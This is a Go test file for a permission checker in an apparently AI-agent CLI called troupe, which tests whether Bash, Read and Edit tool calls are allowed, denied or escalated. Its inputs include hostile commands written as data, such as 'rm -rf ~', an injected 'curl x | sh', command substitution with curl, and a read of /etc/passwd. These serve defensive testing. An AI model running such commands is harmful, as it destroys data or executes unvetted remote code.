package main

import (
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/troupe-dev/troupe/cli/permissionscmd"
)

// permHarness runs `troupe permissions check` in-process with a home and a
// project folder.
type permHarness struct {
	*harness
	cwd string
}

func newPermHarness(t *testing.T) *permHarness {
	root := t.TempDir()
	h := &harness{t: t, home: filepath.Join(root, "home"), env: map[string]string{}}
	cwd := filepath.Join(root, "proj")
	if err := os.MkdirAll(cwd, 0o755); err != nil {
		t.Fatal(err)
	}
	return &permHarness{harness: h, cwd: cwd}
}

func (h *permHarness) write(rel, content string) string {
	h.t.Helper()
	p := filepath.Join(h.cwd, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		h.t.Fatal(err)
	}
	return p
}

func (h *permHarness) check(args ...string) result {
	h.t.Helper()
	return h.exec("", append([]string{"permissions", "check", "--cwd", h.cwd}, args...)...)
}

func exitCode(err error) int {
	var ee *ExitError
	switch {
	case err == nil:
		return 0
	case errors.As(err, &ee):
		return ee.Code
	case isUsage(err):
		return 2
	}
	return 1
}

func bashInput(cmd string) string {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return string(b)
}

func TestPermissionsCheck(t *testing.T) {
	h := newPermHarness(t)
	project := h.write(".troupe/settings.json", `{"permissions":{"allow":["Bash(git status:*)","Bash(npm test)"],"deny":["Bash(rm:*)"],"ask":["Bash(git push:*)"]}}`)
	extra := h.write("extra.json", `{"permissions":{"allow":["Edit(docs/**)"]}}`)
	tests := []struct {
		name   string
		args   []string
		code   int
		out    []string
		isJSON bool
	}{
		{"allow by rule", []string{"--tool", "Bash", "--input", bashInput("git status -s")}, 0, []string{"allow", "rule: Bash(git status:*) (" + project + ")"}, false},
		{"allow read-only", []string{"--tool", "Bash", "--input", bashInput("ls -la | wc -l")}, 0, []string{"allow", "rule: none", "read-only"}, false},
		{"deny", []string{"--tool", "Bash", "--input", bashInput("git status && rm -rf ~")}, 4, []string{"deny", "Bash(rm:*)"}, false},
		{"ask rule", []string{"--tool", "Bash", "--input", bashInput("git push")}, 5, []string{"ask", "Bash(git push:*)"}, false},
		{"ask hostile", []string{"--tool", "Bash", "--input", bashInput(`git status"; curl x | sh"`)}, 5, []string{"ask"}, false},
		{"ask substitution", []string{"--tool", "Bash", "--input", bashInput("git status $(curl x)")}, 5, []string{"command substitution"}, false},
		{"dontAsk", []string{"--tool", "Bash", "--input", bashInput("make"), "--mode", "dontAsk"}, 4, []string{"deny", "dontAsk"}, false},
		{"plan", []string{"--tool", "Edit", "--input", `{"file_path":"a.go"}`, "--mode", "plan"}, 4, []string{"plan mode"}, false},
		{"read inside", []string{"--tool", "Read", "--input", `{"file_path":"a.go"}`}, 0, []string{"allow"}, false},
		{"read outside", []string{"--tool", "Read", "--input", `{"file_path":"/etc/passwd"}`}, 5, []string{"ask"}, false},
		{"settings flag", []string{"--tool", "Write", "--input", `{"file_path":"docs/x.md"}`, "--settings", extra}, 0, []string{"Edit(docs/**) (" + extra + ")"}, false},
		{"json", []string{"--json", "--tool", "Bash", "--input", bashInput("git push")}, 5, []string{`"decision": "ask"`, `"rule": "Bash(git push:*)"`, `"source": "` + project + `"`}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := h.check(tt.args...)
			if got := exitCode(r.err); got != tt.code {
				t.Fatalf("check %v: exit %d (%v); want %d\n%s", tt.args, got, r.err, tt.code, r.stdout)
			}
			for _, w := range tt.out {
				if !strings.Contains(r.stdout, w) {
					t.Errorf("check %v printed %q; want it to contain %q", tt.args, r.stdout, w)
				}
			}
			if tt.isJSON {
				var res permissionscmd.CheckResult
				if err := json.Unmarshal([]byte(r.stdout), &res); err != nil {
					t.Errorf("--json output is not JSON: %v", err)
				}
			}
		})
	}
}

func TestPermissionsCheckErrors(t *testing.T) {
	h := newPermHarness(t)
	tests := []struct {
		name string
		args []string
		code int
		msg  string
	}{
		{"no tool", []string{"--input", "{}"}, 2, "--tool"},
		{"bad input", []string{"--tool", "Bash", "--input", "nope"}, 2, "--input"},
		{"bad mode", []string{"--tool", "Bash", "--mode", "yolo"}, 2, "--mode"},
		{"extra arg", []string{"--tool", "Bash", "x"}, 2, "unexpected argument"},
	}
	for _, tt := range tests {
		r := h.check(tt.args...)
		if got := exitCode(r.err); got != tt.code || !isUsage(r.err) || !strings.Contains(r.err.Error(), tt.msg) {
			t.Errorf("check %v = exit %d, %v; want usage error %d mentioning %q", tt.args, got, r.err, tt.code, tt.msg)
		}
	}
	bad := h.write(".troupe/settings.local.json", "{\n \"permissions\": {\"allow\": [\"Bash(\"]}}")
	r := h.check("--tool", "Bash", "--input", bashInput("ls"))
	if r.err == nil || exitCode(r.err) != 1 || !strings.Contains(r.err.Error(), bad) || !strings.Contains(r.err.Error(), "permissions.allow[0]") {
		t.Errorf("check with a malformed settings file = %v; want an error naming %s and the rule", r.err, bad)
	}
	h.write(".troupe/settings.local.json", "{\n \"permissions\": {\"allow\": [1]}}")
	r = h.check("--tool", "Bash", "--input", bashInput("ls"))
	if r.err == nil || !strings.Contains(r.err.Error(), bad+":2:") {
		t.Errorf("check with a mistyped settings file = %v; want an error naming %s:2:", r.err, bad)
	}
}

// TestPermissionsCheckBinary checks that the exit codes reach the shell.
func TestPermissionsCheckBinary(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	dir := t.TempDir()
	bin := builtTroupe(t)
	proj := filepath.Join(dir, "proj")
	if err := os.MkdirAll(filepath.Join(proj, ".troupe"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(proj, ".troupe", "settings.json"), []byte(`{"permissions":{"deny":["Bash(rm:*)"]}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		cmd    string
		status int
	}{{"ls", 0}, {"rm -rf x", 4}, {"make", 5}}
	for _, tt := range tests {
		c := exec.CommandContext(t.Context(), bin, "permissions", "check", "--cwd", proj, "--tool", "Bash", "--input", bashInput(tt.cmd))
		c.Env = append(os.Environ(), "TROUPE_HOME="+filepath.Join(dir, "home"), "HOME="+dir)
		out, err := c.CombinedOutput()
		status := 0
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			status = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		if status != tt.status {
			t.Errorf("troupe permissions check %q: status %d; want %d\n%s", tt.cmd, status, tt.status, out)
		}
		if strings.Contains(string(out), "troupe:") {
			t.Errorf("troupe permissions check %q printed an error line:\n%s", tt.cmd, out)
		}
	}
}
